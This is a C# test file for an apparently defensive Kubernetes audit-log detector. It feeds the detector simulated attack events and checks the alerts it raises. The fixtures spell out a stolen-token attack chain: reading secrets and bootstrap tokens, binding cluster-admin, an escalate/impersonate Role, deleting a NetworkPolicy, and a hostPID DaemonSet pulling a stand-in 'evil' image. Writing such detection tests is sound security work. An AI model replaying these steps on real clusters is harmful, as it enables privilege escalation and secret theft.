using System.Text.Json;
using System.Text.Json.Nodes;
using Palisade.Testing;
using static Palisade.Testing.AuditLines;

namespace Palisade.Detection.Tests.Tests.Contract;

/// <summary>
/// Cases of the blind attack-chain audit review (2026-12-02): attacks as the API server's audit log records them, from a
/// stolen service-account token (secrets read, cluster-admin bound, a role granting escalate, a policy deleted, a namespace
/// relabelled into a policy's reach), persistence (a host-network DaemonSet and its pods, a CronJob's job template gaining
/// the host network), exposure (NodePort, LoadBalancer, externalIPs, Ingress, with dry runs and refusals), anonymous probing,
/// interactive access (exec, attach, port-forward over WebSocket and SPDY) and the causes <c>flows check --audit</c> names.
/// Expected values are written from the contract's Detection section, severities from docs/detection.md's rule tables.
/// Cluster: namespaces shop (env=prod: Deployment web, pod 10.0.1.10 on 8080, Service web 10.96.10.10:80, default-deny),
/// data (StatefulSet db, pod 10.0.2.10 on 5432, db-ingress admitting env=prod namespaces on 5432), ci (pod runner
/// 10.0.3.10, whose service account <c>builder</c> the attacker holds) and kube-system.
/// </summary>
public sealed class BlindAuditAttackChainCaseTests
{
    private const string Attacker = "system:serviceaccount:ci:builder";
    private const string Kubectl = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625";
    private const string Runner = "10.0.3.10";
    private const string Db = "10.0.2.10";
    private const string WebService = "10.96.10.10";

    private const string Cluster = """
        apiVersion: v1
        kind: Namespace
        metadata: {name: shop, labels: {kubernetes.io/metadata.name: shop, env: prod}}
        ---
        apiVersion: v1
        kind: Namespace
        metadata: {name: data, labels: {kubernetes.io/metadata.name: data}}
        ---
        apiVersion: v1
        kind: Namespace
        metadata: {name: ci, labels: {kubernetes.io/metadata.name: ci}}
        ---
        apiVersion: v1
        kind: Namespace
        metadata: {name: kube-system, labels: {kubernetes.io/metadata.name: kube-system}}
        ---
        apiVersion: apps/v1
        kind: Deployment
        metadata: {name: web, namespace: shop, uid: 1d0c4c1e-0001-4000-8000-000000000001}
        spec:
          replicas: 1
          selector: {matchLabels: {app: web}}
          template:
            metadata: {labels: {app: web}}
            spec: {containers: [{name: web, image: nginx, ports: [{containerPort: 8080}]}]}
        ---
        apiVersion: apps/v1
        kind: ReplicaSet
        metadata:
          name: web-6c9f8d7b5
          namespace: shop
          uid: 1d0c4c1e-0001-4000-8000-000000000002
          labels: {app: web, pod-template-hash: 6c9f8d7b5}
          ownerReferences: [{apiVersion: apps/v1, kind: Deployment, name: web, uid: 1d0c4c1e-0001-4000-8000-000000000001, controller: true}]
        spec:
          replicas: 1
          selector: {matchLabels: {app: web, pod-template-hash: 6c9f8d7b5}}
          template:
            metadata: {labels: {app: web, pod-template-hash: 6c9f8d7b5}}
            spec: {containers: [{name: web, image: nginx, ports: [{containerPort: 8080}]}]}
        ---
        apiVersion: v1
        kind: Pod
        metadata:
          name: web-6c9f8d7b5-x2x9k
          namespace: shop
          labels: {app: web, pod-template-hash: 6c9f8d7b5}
          ownerReferences: [{apiVersion: apps/v1, kind: ReplicaSet, name: web-6c9f8d7b5, uid: 1d0c4c1e-0001-4000-8000-000000000002, controller: true}]
          creationTimestamp: "2024-04-01T00:00:00Z"
        spec: {nodeName: node-1, containers: [{name: web, image: nginx, ports: [{containerPort: 8080}]}]}
        status: {phase: Running, podIP: 10.0.1.10, podIPs: [{ip: 10.0.1.10}], hostIP: 10.0.0.11}
        ---
        apiVersion: v1
        kind: Service
        metadata: {name: web, namespace: shop}
        spec: {type: ClusterIP, clusterIP: 10.96.10.10, clusterIPs: [10.96.10.10], selector: {app: web}, ports: [{port: 80, targetPort: 8080, protocol: TCP}]}
        ---
        apiVersion: apps/v1
        kind: StatefulSet
        metadata: {name: db, namespace: data, uid: 1d0c4c1e-0001-4000-8000-000000000003}
        spec:
          serviceName: db
          replicas: 1
          selector: {matchLabels: {app: db}}
          template:
            metadata: {labels: {app: db}}
            spec: {containers: [{name: db, image: postgres, ports: [{containerPort: 5432}]}]}
        ---
        apiVersion: v1
        kind: Pod
        metadata:
          name: db-0
          namespace: data
          labels: {app: db}
          ownerReferences: [{apiVersion: apps/v1, kind: StatefulSet, name: db, uid: 1d0c4c1e-0001-4000-8000-000000000003, controller: true}]
          creationTimestamp: "2024-04-01T00:00:00Z"
        spec: {nodeName: node-1, containers: [{name: db, image: postgres, ports: [{containerPort: 5432}]}]}
        status: {phase: Running, podIP: 10.0.2.10, podIPs: [{ip: 10.0.2.10}], hostIP: 10.0.0.11}
        ---
        apiVersion: v1
        kind: Pod
        metadata: {name: runner, namespace: ci, labels: {app: runner}, creationTimestamp: "2024-04-01T00:00:00Z"}
        spec: {nodeName: node-1, serviceAccountName: builder, containers: [{name: runner, image: ci-runner}]}
        status: {phase: Running, podIP: 10.0.3.10, podIPs: [{ip: 10.0.3.10}], hostIP: 10.0.0.11}
        ---
        apiVersion: networking.k8s.io/v1
        kind: NetworkPolicy
        metadata: {name: default-deny, namespace: shop}
        spec: {podSelector: {}, policyTypes: [Ingress]}
        ---
        apiVersion: networking.k8s.io/v1
        kind: NetworkPolicy
        metadata: {name: db-ingress, namespace: data}
        spec:
          podSelector: {matchLabels: {app: db}}
          policyTypes: [Ingress]
          ingress: [{from: [{namespaceSelector: {matchLabels: {env: prod}}}], ports: [{port: 5432, protocol: TCP}]}]
        """;

    private const string AllowCi = """
        {"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"allow-ci","namespace":"data"},
         "spec":{"podSelector":{"matchLabels":{"app":"db"}},"policyTypes":["Ingress"],
                 "ingress":[{"from":[{"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"ci"}}}],"ports":[{"port":5432,"protocol":"TCP"}]}]}}
        """;

    private const string DeleteOptions = """{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/v1","propagationPolicy":"Background"}""";

    private static string Deleted(string name, string kind) =>
        $$$"""{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"{{{name}}}","group":"networking.k8s.io","kind":"{{{kind}}}"}}""";

    private static string CiNamespace(string labels, string resourceVersion) =>
        $$$"""{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"ci","resourceVersion":"{{{resourceVersion}}}","labels":{"kubernetes.io/metadata.name":"ci"{{{labels}}}}},"spec":{"finalizers":["kubernetes"]},"status":{"phase":"Active"}}""";

    /// <summary>The event with its stage written at <paramref name="at"/> (a watch or a session ends long after it was received).</summary>
    private static string StageAt(string line, string at)
    {
        var e = JsonNode.Parse(line)!;
        e["stageTimestamp"] = Time(at);
        return e.ToJsonString();
    }

    /// <summary>
    /// A create as the API server logs it: <c>objectRef</c> names the object the body names, the URI is the collection posted to.
    /// </summary>
    private static string Created(string line)
    {
        var e = JsonNode.Parse(line)!;
        var uri = (string)e["requestURI"]!;
        var query = uri.IndexOf('?', StringComparison.Ordinal);
        var path = query < 0 ? uri : uri[..query];
        e["requestURI"] = path[..path.LastIndexOf('/')] + (query < 0 ? "" : uri[query..]);
        return e.ToJsonString();
    }

    /// <summary>
    /// <c>audit -o json</c>'s <c>events</c>, then each alert as <c>rule severity time user verb object | opened lines sorted,
    /// joined by "; "</c>, sorted.
    /// </summary>
    private static IReadOnlyList<string> Audit(string[] lines, params string[] options) => Audit(Cluster, lines, options);

    private static IReadOnlyList<string> Audit(string cluster, string[] lines, params string[] options)
    {
        using var dir = new TempDirectory();
        File.WriteAllText(dir.File("audit.jsonl"), Log(lines));
        File.WriteAllText(dir.File("cluster.yaml"), cluster);
        var run = CliRun.Of(["audit", dir.File("audit.jsonl"), "--cluster", dir.File("cluster.yaml"), "-o", "json", .. options]);
        Assert.True(run.ExitCode == 0, run.Error);
        using var output = JsonDocument.Parse(run.Output);
        var alerts = output.RootElement.GetProperty("alerts").EnumerateArray().Select(a =>
            $"{a.GetProperty("rule").GetString()} {a.GetProperty("severity").GetString()} {a.GetProperty("time").GetString()} "
            + $"{a.GetProperty("user").GetString()} {a.GetProperty("verb").GetString()} {a.GetProperty("object").GetString()} | "
            + string.Join("; ", a.GetProperty("opened").EnumerateArray().Select(o => o.GetString()).Order(StringComparer.Ordinal)))
            .Order(StringComparer.Ordinal);
        return [$"events {output.RootElement.GetProperty("events").GetInt32()}", .. alerts];
    }

    [Fact]
    public void A_stolen_service_account_token_reads_secrets_binds_cluster_admin_deletes_a_policy_and_relabels_its_namespace()
    {
        const string curl = "curl/8.5.0";
        string[] log =
        [
            Event("create", "selfsubjectrulesreviews", user: Attacker, groups: ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"],
                at: "03:00", userAgent: Kubectl, request: """{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"ci"}}""", code: 201),
            Event("list", "secrets", user: Attacker, at: "03:01", level: "Metadata", userAgent: curl),
            Event("get", "secrets", "kube-system", "bootstrap-token-abcdef", user: Attacker, at: "03:02", level: "Metadata", userAgent: curl),
            Event("get", "secrets", "shop", "web-tls", user: Attacker, at: "03:02:30", level: "Metadata", userAgent: curl),
            Event("list", "secrets", "kube-system", user: Attacker, at: "03:03", level: "Metadata", userAgent: curl),
            Created(Event("create", "clusterrolebindings", name: "ci-builder-admin", user: Attacker, at: "03:04", userAgent: Kubectl, code: 201,
                request: """{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"ci-builder-admin"},"subjects":[{"kind":"ServiceAccount","name":"builder","namespace":"ci"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}""",
                response: """{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"ci-builder-admin","uid":"5b1e","resourceVersion":"9001"},"subjects":[{"kind":"ServiceAccount","name":"builder","namespace":"ci"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}""")),
            Created(Event("create", "roles", "ci", "pwn", user: Attacker, at: "03:05", userAgent: Kubectl, code: 201,
                request: """
                    {"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"pwn","namespace":"ci"},"rules":[
                      {"apiGroups":["rbac.authorization.k8s.io"],"resources":["roles","rolebindings"],"verbs":["escalate","bind"]},
                      {"apiGroups":[""],"resources":["users","groups","serviceaccounts"],"verbs":["impersonate"]},
                      {"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}
                    """)),
            Event("create", "serviceaccounts", "kube-system", "replicaset-controller", subresource: "token", user: Attacker, at: "03:05:30", userAgent: Kubectl, code: 201,
                request: """{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":null,"expirationSeconds":3600}}"""),
            Event("delete", "networkpolicies", "shop", "default-deny", user: Attacker, at: "03:06", userAgent: Kubectl, request: DeleteOptions,
                response: Deleted("default-deny", "networkpolicies")),
            Event("patch", "namespaces", name: "ci", user: Attacker, at: "03:07", userAgent: Kubectl,
                request: """{"metadata":{"labels":{"env":"prod"}}}""", response: CiNamespace(""","env":"prod" """, "9010")),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 10",
            "label-change-opened high 2024-05-01T03:07:00Z" + user + "patch Namespace ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
            "network-policy-tampering high 2024-05-01T03:06:00Z" + user + "delete NetworkPolicy shop/default-deny | "
                + "0.0.0.0-255.255.255.255[External] => shop/web[Deployment] : All Connections; ci/runner[Pod] => shop/web[Deployment] : All Connections; "
                + "data/db[StatefulSet] => shop/web[Deployment] : All Connections",
            "rbac-escalation high 2024-05-01T03:04:00Z" + user + "create ClusterRoleBinding ci-builder-admin | ",
            "rbac-escalation high 2024-05-01T03:05:00Z" + user + "create Role ci/pwn | ",
            "secret-access medium 2024-05-01T03:01:00Z" + user + "list Secret */* | ",
            "secret-access medium 2024-05-01T03:02:00Z" + user + "get Secret kube-system/bootstrap-token-abcdef | ",
            "secret-access medium 2024-05-01T03:03:00Z" + user + "list Secret kube-system/* | ",
        ], Audit(log));
    }

    [Fact]
    public void Roles_and_bindings_escalate_by_what_they_grant_and_only_the_control_plane_itself_is_exempt()
    {
        static string Role(string kind, string name, string rules) =>
            Created(Event("create", kind == "Role" ? "roles" : "clusterroles", kind == "Role" ? "ci" : null, name, user: Attacker, userAgent: Kubectl, code: 201, at: "03:10",
                request: $$$"""{"kind":"{{{kind}}}","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"{{{name}}}"{{{(kind == "Role" ? ",\"namespace\":\"ci\"" : "")}}}},"rules":[{{{rules}}}]}"""));
        static string Binding(string kind, string name, string role, string user = Attacker, int code = 201, string at = "03:20") =>
            Created(Event("create", kind == "RoleBinding" ? "rolebindings" : "clusterrolebindings", kind == "RoleBinding" ? "ci" : null, name, user: user, userAgent: Kubectl, code: code,
                at: at, decision: code == 403 ? "forbid" : "allow",
                request: $$$"""{"kind":"{{{kind}}}","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"{{{name}}}"{{{(kind == "RoleBinding" ? ",\"namespace\":\"ci\"" : "")}}}},"subjects":[{"kind":"ServiceAccount","name":"builder","namespace":"ci"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"{{{role}}}"}}"""));
        string[] log =
        [
            Role("Role", "pod-reader", """{"apiGroups":[""],"resources":["pods"],"verbs":["get","list"]}"""),
            Role("Role", "np-writer", """{"apiGroups":["networking.k8s.io"],"resources":["networkpolicies"],"verbs":["create"]}"""),
            Role("Role", "any-reader", """{"apiGroups":[""],"resources":["*"],"verbs":["get"]}"""),
            Role("Role", "any-group", """{"apiGroups":["*"],"resources":["pods"],"verbs":["get"]}"""),
            Role("Role", "np-reader", """{"apiGroups":["networking.k8s.io"],"resources":["networkpolicies"],"verbs":["get","list","watch"]}"""),
            Role("ClusterRole", "anp-patcher", """{"apiGroups":["policy.networking.k8s.io"],"resources":["adminnetworkpolicies"],"verbs":["patch"]}"""),
            Binding("RoleBinding", "builder-admin", "admin"),
            Binding("RoleBinding", "builder-edit", "edit"),
            Binding("ClusterRoleBinding", "kcm-admin", "cluster-admin", user: "system:kube-controller-manager"),
            Binding("ClusterRoleBinding", "ks-admin", "cluster-admin", user: "system:serviceaccount:kube-system:generic-garbage-collector"),
            Binding("ClusterRoleBinding", "refused-admin", "cluster-admin", code: 403),
            Event("patch", "rolebindings", "ci", "builder-edit", user: Attacker, userAgent: Kubectl, at: "03:30", code: 422,
                request: """{"roleRef":{"name":"cluster-admin"}}"""),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 12",
            "rbac-escalation high 2024-05-01T03:10:00Z" + user + "create ClusterRole anp-patcher | ",
            "rbac-escalation high 2024-05-01T03:10:00Z" + user + "create Role ci/any-group | ",
            "rbac-escalation high 2024-05-01T03:10:00Z" + user + "create Role ci/any-reader | ",
            "rbac-escalation high 2024-05-01T03:10:00Z" + user + "create Role ci/np-writer | ",
            "rbac-escalation high 2024-05-01T03:20:00Z" + user + "create RoleBinding ci/builder-admin | ",
            "rbac-escalation high 2024-05-01T03:20:00Z system:serviceaccount:kube-system:generic-garbage-collector create ClusterRoleBinding ks-admin | ",
        ], Audit(log));
    }

    [Fact]
    public void A_host_network_daemon_set_is_reported_once_and_a_cron_job_template_gaining_it_by_patch_once_more()
    {
        const string dsController = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:daemon-set-controller";
        const string agent = """{"containers":[{"name":"agent","image":"ghcr.io/evil/agent:1"}],"hostNetwork":true,"hostPID":true}""";
        static string Pod(string name, string at) =>
            Event("create", "pods", "kube-system", user: "system:serviceaccount:kube-system:daemon-set-controller",
                groups: ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"], at: at, userAgent: dsController, code: 201,
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"node-agent-","namespace":"kube-system","labels":{"app":"node-agent"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","name":"node-agent","uid":"da3e","controller":true,"blockOwnerDeletion":true}]},"spec":{{{agent}}}}""",
                response: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"{{{name}}}","generateName":"node-agent-","namespace":"kube-system","uid":"{{{name}}}","labels":{"app":"node-agent"},"ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","name":"node-agent","uid":"da3e","controller":true,"blockOwnerDeletion":true}]},"spec":{{{agent}}},"status":{"phase":"Pending"}}""");
        const string cleanup = """{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"cleanup","namespace":"ci"},"spec":{"schedule":"*/5 * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"c","image":"busybox"}]}}}}}}""";
        const string hostJob = """{"restartPolicy":"Never","hostNetwork":true,"containers":[{"name":"c","image":"busybox"}]}""";
        string[] log =
        [
            Created(Event("create", "daemonsets", "kube-system", "node-agent", user: Attacker, at: "04:00", userAgent: Kubectl, code: 201,
                request: $$$$"""{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"node-agent","namespace":"kube-system"},"spec":{"selector":{"matchLabels":{"app":"node-agent"}},"template":{"metadata":{"labels":{"app":"node-agent"}},"spec":{{{{agent}}}}}}}""",
                response: $$$$"""{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"node-agent","namespace":"kube-system","uid":"da3e","generation":1},"spec":{"selector":{"matchLabels":{"app":"node-agent"}},"template":{"metadata":{"labels":{"app":"node-agent"}},"spec":{{{{agent}}}}}}}""")),
            Pod("node-agent-7xk2p", "04:00:01"),
            Pod("node-agent-q8w4z", "04:00:02"),
            Event("patch", "daemonsets", "kube-system", "node-agent", user: Attacker, at: "04:02", userAgent: Kubectl, level: "Request",
                request: """{"spec":{"template":{"spec":{"containers":[{"name":"agent","image":"ghcr.io/evil/agent:2"}]}}}}"""),
            Created(Event("create", "cronjobs", "ci", "cleanup", user: Attacker, at: "04:05", userAgent: Kubectl, code: 201, request: cleanup)),
            Event("patch", "cronjobs", "ci", "cleanup", user: Attacker, at: "04:06", userAgent: Kubectl, level: "Request",
                request: """{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"hostNetwork":true}}}}}}"""),
            Created(Event("create", "jobs", "ci", "cleanup-28575850", user: "system:serviceaccount:kube-system:cronjob-controller", at: "04:10", code: 201,
                userAgent: "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:cronjob-controller",
                request: $$$$"""{"kind":"Job","apiVersion":"batch/v1","metadata":{"name":"cleanup-28575850","namespace":"ci","ownerReferences":[{"apiVersion":"batch/v1","kind":"CronJob","name":"cleanup","uid":"c1","controller":true}]},"spec":{"template":{"spec":{{{{hostJob}}}}}}}""")),
            Event("create", "pods", "ci", user: "system:serviceaccount:kube-system:job-controller", at: "04:10:01", code: 201,
                userAgent: "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:job-controller",
                request: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"cleanup-28575850-","namespace":"ci","labels":{"job-name":"cleanup-28575850"},"ownerReferences":[{"apiVersion":"batch/v1","kind":"Job","name":"cleanup-28575850","uid":"j1","controller":true}]},"spec":{{{hostJob}}}}""",
                response: $$$"""{"kind":"Pod","apiVersion":"v1","metadata":{"name":"cleanup-28575850-d5c7q","namespace":"ci","labels":{"job-name":"cleanup-28575850"},"ownerReferences":[{"apiVersion":"batch/v1","kind":"Job","name":"cleanup-28575850","uid":"j1","controller":true}]},"spec":{{{hostJob}}}}"""),
            Event("patch", "deployments", "shop", "web", subresource: "scale", user: Attacker, at: "04:12", userAgent: Kubectl,
                request: """{"spec":{"replicas":3}}""",
                response: """{"kind":"Scale","apiVersion":"autoscaling/v1","metadata":{"name":"web","namespace":"shop"},"spec":{"replicas":3},"status":{"replicas":1,"selector":"app=web"}}"""),
            Event("create", "pods", "ci", user: Attacker, at: "04:13", userAgent: Kubectl, code: 201,
                request: """{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"debug-","namespace":"ci"},"spec":{"hostNetwork":true,"containers":[{"name":"d","image":"nicolaka/netshoot"}]}}""",
                response: """{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug-xk2p9","generateName":"debug-","namespace":"ci"},"spec":{"hostNetwork":true,"containers":[{"name":"d","image":"nicolaka/netshoot"}]},"status":{"phase":"Pending"}}"""),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 10",
            "host-network-pod high 2024-05-01T04:00:00Z" + user + "create DaemonSet kube-system/node-agent | ",
            "host-network-pod high 2024-05-01T04:06:00Z" + user + "patch CronJob ci/cleanup | ",
            "host-network-pod high 2024-05-01T04:13:00Z" + user + "create Pod ci/debug-xk2p9 | ",
        ], Audit(log));
    }

    [Fact]
    public void A_service_exposed_step_by_step_and_an_ingress_given_tls_are_exposures_and_dry_runs_and_refusals_are_nothing()
    {
        const string ingress = """{"kind":"Ingress","apiVersion":"networking.k8s.io/v1","metadata":{"name":"web","namespace":"shop"},"spec":{"ingressClassName":"nginx","rules":[{"host":"shop.example.com","http":{"paths":[{"path":"/","pathType":"Prefix","backend":{"service":{"name":"web","port":{"number":80}}}}]}}]}}""";
        const string loadBalancer = """{"kind":"Service","apiVersion":"v1","metadata":{"name":"web-lb","namespace":"shop"},"spec":{"type":"LoadBalancer","selector":{"app":"web"},"ports":[{"port":443,"targetPort":8080}]}}""";
        static string Write(string verb, string resource, string name, string at, string? request, int code = 200, string? query = null)
        {
            var line = Event(verb, resource, "shop", name, user: Attacker, at: at, userAgent: Kubectl, level: "Request", request: request, code: code,
                query: query, decision: code == 403 ? "forbid" : "allow");
            return verb == "create" ? Created(line) : line;
        }
        string[] log =
        [
            Write("patch", "services", "web", "05:00", """{"spec":{"type":"NodePort"}}"""),
            Write("patch", "services", "web", "05:01", """{"spec":{"type":"LoadBalancer"}}"""),
            Write("patch", "services", "web", "05:02", """{"spec":{"externalIPs":["203.0.113.50"]}}"""),
            Write("patch", "services", "web", "05:03", """{"metadata":{"annotations":{"owner":"shop"}},"spec":{"externalIPs":["203.0.113.50"]}}"""),
            Write("create", "ingresses", "web", "05:04", ingress, code: 201),
            Write("patch", "ingresses", "web", "05:05", """{"spec":{"tls":[{"hosts":["shop.example.com"],"secretName":"web-tls"}]}}"""),
            Write("patch", "ingresses", "web", "05:06", """{"metadata":{"annotations":{"nginx.ingress.kubernetes.io/ssl-redirect":"true"}}}"""),
            Write("create", "services", "web-lb", "05:07", loadBalancer, code: 201, query: "dryRun=All&fieldManager=kubectl-create&fieldValidation=Strict"),
            Write("create", "services", "web-lb", "05:08", loadBalancer, code: 403),
            Write("create", "ingresses", "web", "05:09", ingress, code: 409),
            Write("create", "services", "web-lb", "05:10", loadBalancer.Replace("443", "70000", StringComparison.Ordinal), code: 422),
            Write("create", "services", "metrics", "05:11", """{"kind":"Service","apiVersion":"v1","metadata":{"name":"metrics","namespace":"shop"},"spec":{"selector":{"app":"web"},"ports":[{"port":9090}]}}""", code: 201),
        ];
        const string user = " " + Attacker + " ";
        Assert.Equal(
        [
            "events 12",
            "exposure-change medium 2024-05-01T05:00:00Z" + user + "patch Service shop/web | ",
            "exposure-change medium 2024-05-01T05:01:00Z" + user + "patch Service shop/web | ",
            "exposure-change medium 2024-05-01T05:02:00Z" + user + "patch Service shop/web | ",
            "exposure-change medium 2024-05-01T05:04:00Z" + user + "create Ingress shop/web | ",
            "exposure-change medium 2024-05-01T05:05:00Z" + user + "patch Ingress shop/web | ",
        ], Audit(log));
    }

    [Fact]
    public void Anonymous_probing_alerts_only_on_allowed_resource_requests()
    {
        const string anonymous = "system:anonymous";
        string[] unauthenticated = ["system:unauthenticated"];
        const string scanner = "Go-http-client/1.1";
        string[] log =
        [
            NonResource("/api", at: "06:00"),
            NonResource("/version", at: "06:00:01"),
            NonResource("/healthz", at: "06:00:02"),
            NonResource("/livez", at: "06:00:03"),
            NonResource("/readyz?verbose", at: "06:00:04"),
            Event("list", "namespaces", user: anonymous, groups: unauthenticated, at: "06:01", level: "Metadata", userAgent: scanner),
            Event("list", "namespaces", user: anonymous, groups: unauthenticated, at: "06:02", level: "Metadata", userAgent: scanner, code: 403, decision: "forbid"),
            Event("list", "pods", user: anonymous, groups: unauthenticated, at: "06:03", level: "Metadata", userAgent: scanner),
            Event("get", "secrets", "kube-system", "bootstrap-token-abcdef", user: anonymous, groups: unauthenticated, at: "06:04", level: "Metadata", userAgent: scanner),
        ];
        Assert.Equal(
        [
            "events 9",
            "anonymous-access high 2024-05-01T06:01:00Z system:anonymous list Namespace * | ",
            "anonymous-access high 2024-05-01T06:03:00Z system:anonymous list Pod */* | ",
            "anonymous-access high 2024-05-01T06:04:00Z system:anonymous get Secret kube-system/bootstrap-token-abcdef | ",
            "secret-access medium 2024-05-01T06:04:00Z system:anonymous get Secret kube-system/bootstrap-token-abcdef | ",
        ], Audit(log));
    }

    [Fact]
    public void Exec_attach_and_port_forward_are_one_alert_per_request_over_websocket_or_spdy_whoever_is_trusted()
    {
        const string pod = "web-6c9f8d7b5-x2x9k";
        const string shell = "command=sh&container=web&stdin=true&stdout=true&tty=true";
        static string Stream(string verb, string subresource, string id, string stage, string at, string user = Attacker, int code = 101, string? query = shell) =>
            Event(verb, "pods", "shop", pod, subresource: subresource, user: user, at: at, level: "Metadata", userAgent: Kubectl, id: id, stage: stage, code: code,
                query: query, decision: code == 403 ? "forbid" : "allow");
        string[] log =
        [
            Stream("get", "exec", "ws-exec", "ResponseStarted", "07:00"),
            StageAt(Stream("get", "exec", "ws-exec", "ResponseComplete", "07:00"), "07:14:09.000131"),
            Stream("create", "exec", "spdy-exec", "ResponseStarted", "07:01"),
            Stream("create", "exec", "spdy-exec", "ResponseComplete", "07:01"),
            Stream("create", "attach", "attach", "ResponseComplete", "07:02", query: "container=web&stdin=true&stdout=true&tty=true"),
            Stream("get", "portforward", "pf", "ResponseStarted", "07:03", query: "ports=8080"),
            Stream("get", "portforward", "pf", "ResponseComplete", "07:03", query: "ports=8080"),
            Stream("create", "exec", "refused", "ResponseComplete", "07:04", code: 403),
            Stream("get", "exec", "open", "ResponseStarted", "07:05", user: "alice@example.com"),
        ];
        const string where = " Pod shop/" + pod + " | ";
        Assert.Equal(
        [
            "events 9",
            "exec medium 2024-05-01T07:00:00Z " + Attacker + " get" + where,
            "exec medium 2024-05-01T07:01:00Z " + Attacker + " create" + where,
            "exec medium 2024-05-01T07:02:00Z " + Attacker + " create" + where,
            "exec medium 2024-05-01T07:03:00Z " + Attacker + " get" + where,
            "exec medium 2024-05-01T07:05:00Z alice@example.com get" + where,
        ], Audit(log, "--trusted-users", "alice@example.com"));
    }

    [Fact]
    public void Tampering_spares_only_trusted_users_and_a_label_change_opening_nothing_or_dry_run_raises_nothing()
    {
        const string argo = "system:serviceaccount:argocd:argocd-application-controller";
        string[] log =
        [
            Event("list", "networkpolicies", user: Attacker, at: "08:00", level: "Metadata", userAgent: Kubectl),
            Event("watch", "networkpolicies", "data", user: Attacker, at: "08:00:30", level: "Metadata", userAgent: Kubectl, query: "watch=true", stage: "ResponseStarted"),
            Event("patch", "networkpolicies", "data", "db-ingress", user: argo, at: "08:01", userAgent: "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
                level: "Request", request: """{"spec":{"ingress":[{"from":[{"namespaceSelector":{}}],"ports":[{"port":5432,"protocol":"TCP"}]}]}}"""),
            Event("deletecollection", "networkpolicies", "ci", user: "system:serviceaccount:kube-system:namespace-controller", at: "08:02",
                userAgent: "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:namespace-controller", level: "Metadata"),
            Event("patch", "namespaces", name: "ci", user: Attacker, at: "08:03", userAgent: Kubectl, request: """{"metadata":{"labels":{"team":"build"}}}""",
                response: CiNamespace(""","team":"build" """, "9100")),
            Event("patch", "namespaces", name: "ci", user: Attacker, at: "08:04", userAgent: Kubectl, level: "Request", query: "dryRun=All",
                request: """{"metadata":{"labels":{"env":"prod"}}}"""),
            Event("patch", "pods", "shop", "web-6c9f8d7b5-x2x9k", user: argo, at: "08:05", userAgent: Kubectl, level: "Request",
                request: """{"metadata":{"labels":{"app":"other"}}}"""),
            Created(Event("create", "networkpolicies", "data", "allow-ci", user: Attacker, at: "08:06", userAgent: Kubectl, level: "Request", code: 201, request: AllowCi)),
        ];
        // argo's patch opened every namespace to db on 5432, but argo is trusted; web relabelled out of default-deny's
        // namespace-wide selection gains nothing (it selects every pod), nor does ci's team label.
        Assert.Equal(
        [
            "events 8",
            "network-policy-tampering high 2024-05-01T08:02:00Z system:serviceaccount:kube-system:namespace-controller deletecollection NetworkPolicy ci/* | ",
            "network-policy-tampering high 2024-05-01T08:06:00Z " + Attacker + " create NetworkPolicy data/allow-ci | ",
        ], Audit(log, "--trusted-users", argo));
    }

    [Fact]
    public void A_label_change_by_a_trusted_user_that_opens_a_path_is_still_reported()
    {
        const string flux = "system:serviceaccount:flux-system:kustomize-controller";
        string[] log =
        [
            Event("patch", "namespaces", name: "ci", user: flux, at: "08:30", userAgent: "kustomize-controller/v1.3.0", level: "Request",
                request: """{"metadata":{"labels":{"env":"prod"}}}"""),
        ];
        Assert.Equal(
        [
            "events 1",
            "label-change-opened high 2024-05-01T08:30:00Z " + flux + " patch Namespace ci | ci/runner[Pod] => data/db[StatefulSet] : TCP 5432",
        ], Audit(log, "--trusted-users", flux));
    }

    [Fact]
    public void A_connection_the_attacker_opened_is_caused_by_the_write_after_which_it_became_and_stayed_allowed()
    {
        static string Label(string at, string value, int code = 200) =>
